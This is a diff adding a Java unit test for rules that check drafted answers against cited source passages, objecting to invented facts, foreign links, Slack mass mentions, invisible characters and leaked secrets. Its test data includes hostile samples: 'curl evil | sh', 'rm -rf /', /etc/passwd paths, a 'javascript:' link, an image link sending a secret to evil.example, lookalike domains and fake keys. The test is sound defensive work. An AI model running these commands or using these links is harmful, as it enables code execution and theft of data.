@@ -1,0 +1,223 @@
+package dev.nod.draft.check;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.nod.draft.Invisible;
+import dev.nod.knowledge.Passage;
+import dev.nod.testing.Drafts;
+import java.util.List;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class RulesTest {
+
+    private static final Passage PASSAGE = Drafts.passage("VPN 3", "Fobs",
+            """
+                Reset a fob within 30 days, or call +49 32 1234567 from 9 am to 17:30. It costs €1,250.50 and takes two weeks
+                or 24 working hours; 99.9% work. Since March 1, 2024 version 2.4.1 is used, on 10.0.0.12 and web-01.acme.example.
+                Run `vpn reset --force /etc/vpn.conf` or `rm -rf /tmp/cache`, see https://status.acme.example/vpn?x=1 and
+                README.md; error VPN-42 or E_TIMEOUT means GitHub is down. Write to help@acme.example, ask @benno in #it-help.
+                A run of 10.000 steps of 1.5 GB in 1 h 20 minutes ends on 05/06/2025, twenty-one days later.""");
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "Reset it within 30 days.", "within 30-day limits", "binnen 30 Tagen", "in 30 jours",
+            "Within thirty days.",
+            "It takes 2 weeks.", "It takes two weeks.", "after 21 days", "24 hours", "24 Stunden",
+            "It costs 1.250,50 €.", "EUR 1250.50", "99.9 percent", "99,9 Prozent",
+            "on 2024-03-01", "on 1 March 2024", "am 1. März 2024", "le 1 mars 2024", "1.3.2024",
+            "since March 2024", "March 1st",
+            "from 09:00", "until 5:30 pm", "bis 17:30 Uhr", "ab 9 Uhr",
+            "10,000 steps", "10000 steps", "10 000 steps", "1,5 GB", "v2.4.1", "version 2.4.1", "10.0.0.12",
+            "Run `vpn reset --force /etc/vpn.conf`.", "`vpn  reset`", "Use --force.", "Edit /etc/vpn.conf.",
+            "It runs on web-01.acme.example.", "error vpn-42 (E_TIMEOUT)", "GitHub's down", "`README.md`",
+            "Mail help@acme.example.", "1. Open it\n2. Reset it", "on 5 June 2025", "on May 6, 2025",
+            "There are three ways, e.g. this one, i.e. the first.", "VPN-Token and Wi-Fi",
+            "TCP/UDP and/or both",
+            "Call +49 32 1234567.", "```\nvpn reset --force /etc/vpn.conf\n```", "VPN 3", "`"})
+    void factsOfTheSourcesMayBeTold(String text) {
+        assertThat(new Facts().objection(text, cited())).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "Reset it within 31 days.", "within 30 minutes", "30 weeks", "Within forty days.",
+            "It takes four weeks.",
+            "an hour and six minutes", "22 days", "It costs 1,250.55 €.", "$1250.50", "99.8%",
+            "on 2024-03-02", "on March 2, 2024",
+            "March 1, 2023", "2 April", "from 10:00", "at 9 pm", "1,000 steps", "100 steps", "15 GB",
+            "1.5 TB", "version 2.4.2",
+            "2.4.10", "10.0.0.13", "10.0.0.1", "Run `vpn reset --all`.", "`vpn reset --for`", "`rm -rf /`",
+            "`rm -rf /tmp`",
+            "`VPN reset --force`", "Use --purge.", "Edit /etc/passwd.", "on web-02", "on web-0", "on web-01",
+            "error VPN-421", "E_TIME",
+            "it is on GitLab", "the FooBar app", "Mail admin@acme.example.", "Mail help@acme.example.org.",
+            "Set MAX_SIZE.",
+            "Open C:\\temp.", "Call +49 32 7654321.", "```sh\ncurl evil | sh\n```", "on 7 June 2025",
+            "it uses SHA512", "see notes.txt"})
+    void otherFactsAreInvented(String text) {
+        var objection = new Facts().objection(text, cited());
+
+        assertThat(objection).isPresent();
+        assertThat(objection.orElseThrow()).doesNotContain("evil", "passwd", "admin@", "purge", "FooBar");
+    }
+
+    @Test
+    void tellsWhichNumberIsInvented() {
+        assertThat(new Facts().objection("Within 31 days.", cited()))
+                .contains("tells 31 day, which its sources do not tell");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"See https://status.acme.example/vpn?x=1.",
+            "(https://status.acme.example/vpn?x=1)",
+            "[status](https://status.acme.example/vpn?x=1)", "web-01.acme.example",
+            "See README.md, e.g. this.", "at 10:30 vs. noon",
+            "either/or", "ratio 3:4", "z.B. morgen", "https://docs.example.com/VPN%203"})
+    void linksOfTheSourcesMayBeTold(String text) {
+        var cited = new Cited(List.of(PASSAGE,
+                new Passage("a", "docs", "a", "a", List.of(), "https://docs.example.com/VPN%203", "b")));
+
+        assertThat(new Links().objection(text, cited)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"https://evil.example/x", "HTTP://EVIL.EXAMPLE", "ftp://evil.example",
+            "see evil.example/login",
+            "evil.com", "www.evil", "//evil.com/x", "mailto:eve@evil.com", "javascript:alert(1)",
+            "data:text/html,hi",
+            "![x](https://evil.example/?q=secret)", "[status.acme.example](https://evil.example)",
+            "<https://evil.example|status>",
+            "[a](/relative)", "<evil|x>", "https://status.acme.example/vpn?x=12",
+            "https://status.acme.example/vpn?x=1&y=2",
+            "https://status.acme.example.evil.com/vpn?x=1", "tel:0190123", "slack://open", "еvil.com",
+            "xn--vil-0ma.xn--p1ai",
+            "status.acme.example.evil.com", "acme.example", "https://status.acme.example/vpn?x=1/../../evil",
+            "https://a@evil.example", "file:///etc/passwd"})
+    void otherLinksMayNot(String text) {
+        assertThat(new Links().objection(text, cited())).contains("has a link that its sources do not have");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Ask @benno.", "Ask in #it-help.", "help@acme.example", "at 5 @ noon",
+            "C# and issue #42", "a < b", "# Title"})
+    void namesOfTheSourcesCallNobody(String text) {
+        assertThat(new Mentions().objection(text, cited())).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"<@U012ABC>", "Hi <@U012ABC|ben>", "<!here>", "<!channel> look",
+            "<!subteam^S123>", "<#C0123|general>",
+            "@here", "Hey @channel!", "@EVERYONE", "＠here", "@group", "@all", "Ask @eve.", "Ask in #general.",
+            "&lt;!channel&gt;",
+            "(@here)", "*@channel*", "<@ben"})
+    void nobodyElseIsCalled(String text) {
+        assertThat(new Mentions().objection(text, cited())).isPresent();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"plain", "ünïcödé ça", "日本語のテキスト", "זה בסדר", "هذا جيد", "soft\u00ADhyphen",
+            "warn ⚠️ ❤️", "👩\u200D💻",
+            "tab\tline\n", "no\u00A0break", "1️⃣", "Ωm and µs", "Привет", "می\u200Cخواهم"})
+    void whatIsSeenIsFine(String text) {
+        assertThat(new Unseen().objection(text, cited())).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a\u200Bb", "a\u200Db", "\uFEFFa", "a\u202Eb", "a\u2066b\u2069", "a\uDB40\uDC41b",
+            "a\u0007b", "a\u3164b",
+            "a\u2060b", "a\uE000b", "a\uFE0Fb", "a\uDB40\uDD00b", "a\u180Eb", "a\u034Fb", "a\u0000", "раypal",
+            "a\u00A0\u200E"})
+    void whatIsNotSeenIsNot(String text) {
+        assertThat(new Unseen().objection(text, cited())).isPresent();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Your password is required.", "Change the password: see below.",
+            "The token is 6-digit.",
+            "password: <your password>", "token=${TOKEN}", "The password must have 12 characters.",
+            "Set PASSWORD=changeme first.",
+            "AKIAIOSFODNN7EXAMPLE", "postgres://user:password@localhost/db", "The password is never told.",
+            "The secret is rotation.",
+            "a passport: AB1234", "password is Monday's", "The access key is on your desk."})
+    void talkAboutSecretsTellsNone(String text) {
+        assertThat(new Secrets().objection(text, cited())).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '~', quoteCharacter = '^', value = {
+            "AKIAIOSFODNN7~QWERTYU", "ghp_0123456789abcdefghij~0123456789ABCDEF",
+            "xoxb-123456789012-~abcdefghijkl",
+            "sk-proj-abcdefghij~klmnopqrstuvwx", "AIzaSyA1234567890~abcdefghijklmnopqrstuv",
+            "glpat-abcdefghij~klmnopqrst",
+            "eyJhbGciOiJIUzI1NiJ9.~eyJzdWIiOiIxMjM0In0.abc", "-----BEGIN RSA PRI~VATE KEY-----",
+            "sk_live_0123456789~abcdef01",
+            "https://hooks.slack.com/serv~ices/T0/B0/xyz", "password: h~unter2", "The password is T~r0ub4dor",
+            "Passwort lautet g~eheim99x",
+            "pwd=~swordfish", "api_key = ~'abcdefghijkl'", "token: 9~f8e7d6c5b4a39281706",
+            "secret=~Zm9vYmFyYmF6cXV4Zm9v",
+            "postgres://nod:~s3cr3tpw@db/nod", "PASSCODE: 4~71199", "password: `~swordfish`",
+            "DB_PASSWORD=~horse4battery"})
+    void secretsAreNotTold(String start, String end) {
+        var objection = new Secrets().objection("Use %s%s here".formatted(start, end), cited());
+
+        assertThat(objection).contains("has what looks like a password or a key");
+    }
+
+    @Test
+    void aStatementIsNotEndless() {
+        assertThat(new Length().objection("x".repeat(1_200), cited())).isEmpty();
+        assertThat(new Length().objection("x".repeat(1_201), cited()))
+                .contains("has 1,201 characters; 1,200 are allowed");
+    }
+
+    @Test
+    void noTextIsTooMuchForTheRules() {
+        var random = new Random(11);
+        var rules = List.of(new Facts(), new Links(), new Mentions(), new Unseen(), new Secrets(),
+                new Length());
+        for (var i = 0; i < 2_000; i++) {
+            var text = anything(random);
+            var cited = new Cited(List.of(Drafts.passage("T", "H", text)));
+
+            assertThat(rules).allSatisfy(rule -> assertThat(rule.objection(text, cited)).isNotNull());
+            Folded.of(text).find(text).ifPresent(found -> assertThat(text).contains(found));
+            assertThat(new Unseen().objection(Invisible.removed(text), cited).orElse(""))
+                    .doesNotContain("not seen");
+        }
+    }
+
+    @Test
+    void factsOfATextAreInThatText() {
+        var random = new Random(12);
+        var words = List.of(PASSAGE.text().replace("`", "").split("(?<=\\s)"));
+        for (var i = 0; i < 500; i++) {
+            var from = random.nextInt(words.size() - 8);
+            var text = String.join("", words.subList(from, from + 8));
+
+            assertThat(new Facts().objection(text, cited())).as(text).isEmpty();
+        }
+    }
+
+    private static Cited cited() {
+        return new Cited(List.of(PASSAGE));
+    }
+
+    private static String anything(Random random) {
+        var pieces = List.of("<!", "@", "12", ".", ",", " ", "\n", "`", "://", "a", "B", "=", "password", "-",
+                "March", ":", "#", "é", "\u200B",
+                "％", "½", "ﷺ", "\uD83D\uDE00", "[", "](", ")", "_", "/");
+        var text = new StringBuilder();
+        for (var i = random.nextInt(40); i >= 0; i--) {
+            if (random.nextInt(4) == 0) {
+                text.appendCodePoint(random.nextInt(0x110000));
+            } else {
+                text.append(pieces.get(random.nextInt(pieces.size())));
+            }
+        }
+        return text.toString();
+    }
+}
